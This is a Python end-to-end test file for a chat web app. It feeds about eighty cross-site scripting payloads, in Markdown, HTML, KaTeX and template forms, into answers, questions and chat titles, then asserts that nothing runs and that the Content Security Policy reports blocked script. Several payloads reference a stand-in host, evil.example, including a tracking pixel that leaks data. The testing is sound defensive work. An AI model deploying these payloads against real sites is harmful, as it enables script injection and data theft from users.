"""Hostile texts by the dozen, as answers and as questions: all stays text, nothing is loaded.

The kinds are those of the usual cheat sheets: tags, handlers, addresses, encodings, mutations of
the parser, Markdown, mathematics, CSS, templates. Each payload would set `window.owned`.
"""

from __future__ import annotations

import pytest

from tests.e2e.worlds import FRAGILE
from tests.world.waiting import eventually

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(180)]
WORLD = FRAGILE

RUN = "window.owned=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img src=x:x onerror={RUN}//",
    f'<img/src="x"/onerror={RUN}>',
    f"<IMG SRC=javascript:{RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<base href="javascript:{RUN}//">',
    f'<link rel=stylesheet href="javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<style>@import 'javascript:{RUN}';*{{background:url(https://evil.example/x)}}</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f"<template><img src=x onerror={RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    f'<title><p title="</title><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<\x0bimg src=x onerror={RUN}>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"[a](<java\nscript:{RUN}>)",
    f"[a](&#106;avascript:{RUN})",
    f"[a](&#x6A&#x61vascript:{RUN})",
    f"[a](\x01javascript:{RUN})",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)",
    f"[a](vbscript:{RUN})",
    "[a](blob:https://evil.example/x)",
    "[a](file:///etc/passwd)",
    f'[a](https://ok.example "onmouseover={RUN}")',
    f"[a]: javascript:{RUN}\n\n[a]",
    f"<javascript:{RUN}>",
    f"![a](javascript:{RUN})",
    "![a](https://evil.example/pixel.png?words)",
    f'![a](x"onerror="{RUN})',
    f"[![a](x)](javascript:{RUN})",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\url{{javascript:{RUN}}}$$",
    "$\\htmlData{x=1}{y} \\htmlStyle{background:url(https://evil.example)}{z}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> | [a](javascript:{RUN}) |\n|---|---|\n| <svg/onload={RUN}> |",
    f"- [ ] <img src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"'\"><img src=x onerror={RUN}>",
    f"-->\"'</script></style></title></textarea><script>{RUN}</script>",
]


WORDS = """\
<script>window.owned = 1</script>

<img src="x" onerror="window.owned = 2"> and <b>raw</b> <iframe src="https://evil.example/"></iframe>

[click](javascript:window.owned=3) [data](data:text/html,<script>window.owned=4</script>)
<javascript:window.owned=5> [vb](vbscript:x) [ok](https://example.com/ok)

![pixel](https://evil.example/pixel.png?q=secret)

<svg onload="window.owned=6"></svg><style>body{display:none}</style>

```html
<script>window.owned = 7</script>
```

| a | b |
|---|---|
| <img src=x onerror="window.owned=8"> | [c](jAvAsCrIpT:window.owned=9) |
"""
"""What an answer may say among them, with a link that is one."""

PLANTED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.owned = 10";
  const place = document.createElement("div");
  place.innerHTML = '<img src="data:,x" onerror="window.owned = 11">';
  place.innerHTML += '<img src="https://evil.example/pixel.png">';
  document.body.append(script, place);
}"""


async def untouched(tab) -> None:
    """Nothing ran, nothing stands in the page that could, no address leads astray."""
    page = tab.page
    assert await page.evaluate("() => window.owned") is None
    handlers = await page.evaluate(
        "() => [...document.querySelectorAll('main *')].filter((node) =>"
        " [...node.attributes].some(({name}) => name.startsWith('on'))).length"
    )
    assert handlers == 0
    inside = page.locator("main").locator(
        "script, iframe, object, embed, base, link, meta, form[action], style, template"
    )
    assert await inside.count() == 0
    links = page.locator("main a[href]")
    addresses = await links.evaluate_all("all => all.map((a) => a.protocol)")
    assert set(addresses) <= {"http:", "https:", "mailto:"}, addresses


def only_ours(tab, asked: list[str]) -> None:
    assert not [url for url in asked if not url.startswith((tab.url, "data:", "blob:"))]


async def test_hostile_answers_stay_text(alice):
    """Guards: no raw HTML, `safeAddress` for links and pictures, KaTeX without trust."""
    answer = "\n\n".join(f"{number}.\n\n{one}" for number, one in enumerate([*PAYLOADS, WORDS]))
    alice.agree_text("corpus", answer + "\n\nThe end.", lasts_s=2, size=37)
    tab = await alice.tab()
    tab.may_go_back = True  # `[` and `(` are shown until the link is one
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    await tab.opens()
    await tab.asks("corpus")
    await tab.button("Answer again").wait_for(state="attached")
    await tab.page.get_by_text("The end.").last.wait_for()
    await untouched(tab)
    await shown_as_words(tab)
    await tab.page.reload()  # as it comes from the store, at once
    await tab.page.get_by_text("The end.").last.wait_for()
    await untouched(tab)
    only_ours(tab, asked)
    assert (await tab.watched())["violations"] == [], "the policy had nothing to do"
    await what_gets_in_is_stopped(tab)


async def shown_as_words(tab) -> None:
    answer = tab.answers.first
    assert await answer.locator("img, b, [onload]").count() == 0
    links = answer.locator("a[href]")
    addresses = await links.evaluate_all("all => all.map(a => a.href)")
    assert "https://example.com/ok" in addresses
    assert {"noopener"} <= set(str(await links.first.get_attribute("rel")).split())
    text = await tab.text()
    for words in ("window.owned = 1", "<b>raw</b>", "window.owned = 7", "display:none"):
        assert words in text


async def what_gets_in_is_stopped(tab) -> None:
    """Plant past all guards of the page what runs; guard: the policy, whose reports are heard."""
    await tab.page.evaluate(PLANTED)

    async def reported() -> bool:
        told = " ".join((await tab.watched())["violations"])
        return all(kind in told for kind in ("script-src-elem", "script-src-attr", "img-src"))

    await eventually(reported, within_s=15, what="the policy stops all three, and says so")
    assert await tab.page.evaluate("() => window.owned") is None
    await tab.page.evaluate("() => { window.watch.violations.length = 0; }")
    tab.excuse("Content Security Policy")


async def test_hostile_questions_and_titles_stay_text(alice):
    """Guard: what people write is text, in the conversation, the sidebar and the search."""
    tab = await (await alice.tab()).opens()
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    question = "\n".join([*PAYLOADS, "<b>bold</b>"])
    alice.agree_text(question, "Heard.")
    await tab.asks(question)
    await tab.sees_whole("Heard.")
    await untouched(tab)
    for payload in PAYLOADS[::6]:
        made = await alice.world.api.http.post("/api/chats", json={"title": payload})
        assert made.status_code == 201, made.text
    await tab.page.reload()
    await tab.sees_whole("Heard.")
    await untouched(tab)
    await tab.sees_words("<b>bold</b>", within=tab.questions.first)
    assert await tab.page.locator("main b, nav b, main img").count() == 0
    assert await tab.page.locator("nav script, nav img, nav svg[onload], nav iframe").count() == 0
    only_ours(tab, asked)
